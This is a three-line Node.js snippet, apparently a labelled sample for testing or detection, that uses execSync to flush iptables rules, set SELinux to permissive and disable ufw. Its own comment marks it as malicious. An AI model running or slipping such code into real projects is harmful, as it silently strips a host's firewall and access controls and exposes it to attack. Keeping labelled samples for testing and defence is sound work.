// Malicious: flushes the firewall and disables SELinux.
const { execSync } = require('child_process');
execSync('iptables -F && setenforce 0 && ufw disable');
